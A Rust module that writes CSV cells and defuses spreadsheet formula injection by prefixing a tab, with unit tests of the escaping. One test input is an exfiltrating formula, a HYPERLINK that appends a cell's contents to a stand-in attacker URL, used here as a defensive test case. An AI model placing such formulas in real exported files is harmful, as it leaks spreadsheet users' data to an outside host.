//! Lines of a table for spreadsheets and importers: RFC 4180.
//!
//! All text is quoted. A program that opens the file computes what looks like a formula, quoted or not, so such text
//! begins with a tab; an apostrophe would not survive being saved there.

use super::clean;

/// A text as a cell: in quotes, and nothing that a spreadsheet computes.
#[must_use]
pub fn cell(text: &str) -> String {
    let text = clean(text);
    let guard = if computes(&text) { "\t" } else { "" };
    format!("\"{guard}{}\"", text.replace('"', "\"\""))
}

/// Adds a line of cells, each as [`cell`] writes it, or a number.
pub fn push_line(out: &mut String, cells: impl Iterator<Item = String>) {
    for (i, cell) in cells.enumerate() {
        out.push_str(if i == 0 { "" } else { "," });
        out.push_str(&cell);
    }
    out.push_str("\r\n");
}

/// Whether a spreadsheet might compute it: by its first sign that is no space, full-width twins included. A sign without
/// width counts as a space.
fn computes(text: &str) -> bool {
    let skipped = |c: char| c.is_whitespace() && c != '\t' || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2060}');
    text.trim_start_matches(skipped).starts_with(['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠'])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_text_is_a_formula() {
        let check = |typed: &str, expected: &str| assert_eq!(cell(typed), expected, "{typed:?}");
        check("Larkspur Shop", "\"Larkspur Shop\"");
        check("", "\"\"");
        check("a=b", "\"a=b\"");
        check("=1+2", "\"\t=1+2\"");
        check("+1", "\"\t+1\"");
        check("-1", "\"\t-1\"");
        check("@SUM(A1)", "\"\t@SUM(A1)\"");
        check("\t=1+2", "\"\t\t=1+2\"");
        check("\r=1+2", "\"\t\n=1+2\"");
        check("  =1+2", "\"\t  =1+2\"");
        check("\u{a0}\u{200b}=1+2", "\"\t\u{a0}\u{200b}=1+2\"");
        check("＝1+2", "\"\t＝1+2\"");
        check("=HYPERLINK(\"https://evil.example/?\"&A1)", "\"\t=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\"");
        check("say \"hi\", a;b", "\"say \"\"hi\"\", a;b\"");
        check("two\nlines", "\"two\nlines\"");
        check("a\0b\u{202e}c", "\"abc\"");
    }
}
